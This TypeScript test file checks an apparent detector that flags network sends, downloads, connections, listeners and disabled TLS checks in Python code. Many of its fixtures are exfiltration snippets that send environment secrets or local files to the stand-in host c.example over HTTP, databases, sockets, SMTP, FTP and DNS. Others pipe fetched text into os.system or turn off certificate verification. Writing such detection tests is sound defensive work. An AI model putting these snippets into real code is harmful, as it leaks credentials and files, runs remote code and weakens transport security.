import { describe, expect, test } from "vitest";
import { operationsOf } from "./read.ts";

const IMPORTS =
  "import os, json, socket, ssl, smtplib, ftplib, asyncio, shutil, urllib.request, urllib.parse, http.client, requests, httpx, aiohttp, websocket, websockets, dns.resolver, boto3, telebot, pycurl, base64, io, zipfile\n";
const U = "https://c.example/x";

describe("data leaves", () => {
  test.each([
    [`requests.post('${U}', data='a')`, `send http ${U} [a]`],
    [`requests.post('${U}', {'a': 'b'})`, `send http ${U} [{a: b}]`],
    [`requests.post(url='${U}', json={'k': os.environ['A_KEY']})`, `send http ${U} [~{k: …} <$A_KEY>]`],
    [`requests.post('${U}', files={'f': open('/tmp/a', 'rb')})`, `send http ${U} [~{f: …} </tmp/a>]`],
    [`requests.put('${U}', data=open('/tmp/a').read())`, `send http ${U} [~… </tmp/a>]`],
    // A client of any server, by whatever name its library gives to what sends.
    [
      `import redis\nr = redis.Redis(host='c.example')\nr.publish('q', open('/tmp/a').read())`,
      `send http c.example [~… </tmp/a>]`,
    ],
    [
      `import pymongo\npymongo.MongoClient('mongodb://c.example').db.items.insert_one({'d': os.getenv('A_KEY')})`,
      `send http mongodb://c.example [~{d: …} <$A_KEY>]`,
    ],
    [
      `import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('c.example', 1883)\nc.publish('q', os.getenv('A_KEY'))`,
      `send http c.example [~… <$A_KEY>]`,
    ],
    [`requests.get('${U}?e=' + json.dumps(dict(os.environ)))`, `send http ~${U}?e=… <$*> [~${U}?e=… <$*>]`],
    [`requests.request('POST', '${U}', data='a')`, `send http ${U} [a]`],
    [`requests.get('${U}', headers={'A': os.getenv('A_KEY')})`, `send http ${U} [~{A: …} <$A_KEY>]`],
    [`requests.get('${U}', params={'q': os.getenv('A_KEY')})`, `send http ${U} [~{q: …} <$A_KEY>]`],
    [`requests.get('${U}', auth=('u', os.getenv('A_KEY')))`, `send http ${U} [~[u, …] <$A_KEY>]`],
    [`requests.get('${U}?k=' + os.getenv('A_KEY'))`, `send http ~${U}?k=… <$A_KEY> [~${U}?k=… <$A_KEY>]`],
    [
      `s = requests.Session()\ns.headers.update({'A': os.getenv('A_KEY')})\ns.get('${U}')`,
      `send http ${U} [~{A: …} <$A_KEY>]`,
    ],
    [`s = requests.Session()\ns.headers['A'] = os.getenv('A_KEY')\ns.get('${U}')`, `send http ${U} [~… <$A_KEY>]`],
    [`with httpx.Client(base_url='https://c.example') as c:\n  c.post('/x', content='a')`, `send http ${U} [a]`],
    [
      `async def m():\n  async with aiohttp.ClientSession() as s:\n    async with s.post('${U}', data='a') as r: pass\nasyncio.run(m())`,
      `send http ${U} [a]`,
    ],
    [`def f(client: httpx.AsyncClient):\n  client.post('${U}', json='a')`, `send http ${U} [a]`],
    [`def f(client):\n  client.post('${U}', json='a')`, `send http ${U} [a]`],
    [`urllib.request.urlopen('${U}', b'a')`, `send http ${U} [a]`],
    [
      `r = urllib.request.Request('${U}', data=json.dumps(open('/tmp/a').read()).encode())\nurllib.request.urlopen(r)`,
      `send http ${U} [~… </tmp/a>]`,
    ],
    [
      `r = urllib.request.Request('${U}')\nr.add_header('A', os.getenv('A_KEY'))\nurllib.request.urlopen(r)`,
      `send http ${U} [~… <$A_KEY>]`,
    ],
    [`c = http.client.HTTPSConnection('c.example')\nc.request('POST', '/x', 'a')`, `send http ${U} [a]`],
    [`c = pycurl.Curl()\nc.setopt(c.URL, '${U}')\nc.setopt(pycurl.POSTFIELDS, 'a')\nc.perform()`, `send http ${U} [a]`],
    [`boto3.client('s3').upload_file('/tmp/a', 'bucket', 'k')`, "send http s3://bucket [~… </tmp/a>]"],
    [`boto3.client('s3').put_object(Bucket='bucket', Body='a')`, "send http s3://bucket [a]"],
    [`telebot.TeleBot('t').send_message('1', 'a')`, "send http https://api.telegram.org/ [1, a]"],
    [
      `s = smtplib.SMTP('mail.example', 25)\ns.sendmail('a', 'b', open('/tmp/a').read())`,
      "send mail mail.example:25 [To: b, ~… </tmp/a>]",
    ],
    [
      `f = ftplib.FTP('c.example')\nf.storbinary('STOR x', open('/tmp/a', 'rb'))`,
      "send socket ftp://c.example/x [~… </tmp/a>]",
    ],
    [
      `s = socket.socket()\ns.connect(('192.0.2.1', 80))\ns.sendall(open('/tmp/a', 'rb').read())`,
      "send socket 192.0.2.1:80 [~… </tmp/a>]",
    ],
    [
      `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'a', ('192.0.2.1', 80))`,
      "send socket 192.0.2.1:80 [a]",
    ],
    [
      `w = websocket.create_connection('wss://c.example')\nw.send(open('/tmp/a').read())`,
      "send websocket wss://c.example [~… </tmp/a>]",
    ],
    [
      `socket.gethostbyname(os.getenv('A_KEY') + '.c.example')`,
      "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY>]",
    ],
    [
      `dns.resolver.resolve(base64.b32encode(os.getenv('A_KEY').encode()).decode() + '.c.example')`,
      "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY> {unknown}]",
    ],
    [
      `b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z: z.write('/tmp/a')\nrequests.post('${U}', data=b.getvalue())`,
      `send http ${U} [~… </tmp/a>]`,
    ],
    [
      `z = zipfile.ZipFile('/tmp/z', 'w')\nz.write('/tmp/a')\nrequests.post('${U}', data=open('/tmp/z', 'rb'))`,
      `send http ${U} [~… </tmp/z, /tmp/a>]`,
    ],
    [
      `shutil.make_archive('/tmp/z', 'zip', '/tmp/d')\nrequests.post('${U}', data=open('/tmp/z.zip', 'rb'))`,
      `send http ${U} [~… </tmp/z.zip, /tmp/d>]`,
    ],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code).filter((line) => line.startsWith("send"))).toEqual([expected]);
  });

  test.each([
    [`requests.get('${U}')`],
    [`requests.get('${U}', params={'q': 'a'}, headers={'A': 'b'})`],
    [`requests.get(os.getenv('BASE_URL') + '/x')`],
    [`socket.gethostbyname('c.example')`],
    [`socket.gethostbyname(os.getenv('HOST_NAME'))`],
    ["d = {'get': 1}\nd.get('https://c.example')"],
  ])("near miss: %s", (code) => {
    expect(operationsOf(IMPORTS + code).filter((line) => line.startsWith("send"))).toEqual([]);
  });
});

describe("bytes arrive", () => {
  test.each([
    [`requests.get('${U}')`, [`download ${U}`]],
    [`httpx.get(f'https://{"c"}.example/x')`, [`download ${U}`]],
    [`requests.get(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUveA==').decode())`, [`download ${U} {base64}`]],
    [`urllib.request.urlretrieve('${U}', '/tmp/a')`, [`download ${U} to /tmp/a`]],
    [`open('/tmp/a', 'wb').write(requests.get('${U}').content)`, [`download ${U}`, `download ${U} to /tmp/a`]],
    [
      `r = requests.get('${U}', stream=True)\nwith open('/tmp/a', 'wb') as f:\n  for c in r.iter_content(1): f.write(c)`,
      [`download ${U}`, `download ${U} to /tmp/a`],
    ],
    [
      `r = urllib.request.urlopen('${U}')\nwith open('/tmp/a', 'wb') as f: shutil.copyfileobj(r, f)`,
      [`download ${U}`, `download ${U} to /tmp/a`],
    ],
    [
      `from pathlib import Path\nPath('/tmp/a').write_bytes(httpx.get('${U}').content)`,
      [`download ${U}`, `download ${U} to /tmp/a`],
    ],
    [`import urllib2\nurllib2.urlopen('${U}').read()`, [`download ${U}`]],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code).filter((line) => line.startsWith("download"))).toEqual(expected);
  });

  test.each([
    ["requests.get(U).text", "U"],
    ["requests.get(U).json()['a']['b']", "U"],
    ["json.loads(urllib.request.urlopen(U).read().decode())", "U"],
    ["requests.get(U).text.splitlines()[0].strip()", "U"],
    ["[line for line in requests.get(U).iter_lines()][0]", "U"],
    ["base64.b64decode(requests.get(U).text)", "U, decoded base64"],
  ])("%s has the network as its origin", (code, origins) => {
    const lines = operationsOf(`${IMPORTS}U = '${U}'\nos.system(${code})`);
    expect(lines.filter((line) => line.startsWith("spawn"))).toEqual([`spawn shell ~… <${origins.replace("U", U)}>`]);
  });
});

describe("connections", () => {
  test.each([
    ["s = socket.create_connection(('192.0.2.1', 80))", "connect 192.0.2.1:80"],
    ["async def m():\n  r, w = await asyncio.open_connection('192.0.2.1', 80)", "connect 192.0.2.1:80"],
    ["async def m():\n  async with websockets.connect('wss://c.example') as w: pass", "connect wss://c.example"],
    ["import paramiko\nc = paramiko.SSHClient()\nc.connect('192.0.2.1')", "connect 192.0.2.1"],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toEqual([expected]);
  });

  test.each([
    ["from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0', port=80)", "listen 0.0.0.0 80"],
    ["from flask import Flask\napp = Flask(__name__)\napp.run()", "listen 127.0.0.1 5000"],
    ["import uvicorn\nuvicorn.run(app, host='0.0.0.0', port=8)", "listen 0.0.0.0 8"],
    ["from http.server import HTTPServer\nHTTPServer(('', 80), H)", "listen 0.0.0.0 80"],
    ["s = socket.socket()\ns.bind(('127.0.0.1', 80))\ns.listen()", "listen 127.0.0.1 80"],
    ["from aiohttp import web\nweb.run_app(app)", "listen 0.0.0.0 8080"],
    ["asyncio.start_server(f, '0.0.0.0', 80)", "listen 0.0.0.0 80"],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toEqual([expected]);
  });
});

describe("certificates are not checked", () => {
  const off = "disable-safeguard tls-verification";
  test.each([
    [`requests.get('${U}', verify=False)`, true],
    ["httpx.Client(verify=False)", true],
    ["ssl._create_default_https_context = ssl._create_unverified_context", true],
    ["c = ssl.create_default_context()\nc.check_hostname = False", true],
    ["c = ssl.create_default_context()\nc.verify_mode = ssl.CERT_NONE", true],
    ["s = requests.Session()\ns.verify = False", true],
    ["os.environ['PYTHONHTTPSVERIFY'] = '0'", true],
    [`requests.get('${U}', verify=True)`, false],
    [`requests.get('${U}', verify=ca)`, false],
    [`requests.get('${U}', ssl=None)`, false],
    ["c = ssl.create_default_context()\nc.verify_mode = ssl.CERT_REQUIRED", false],
  ])("%s: %s", (code, isOff) => {
    expect(operationsOf(IMPORTS + code).includes(off)).toBe(isOff);
  });
});
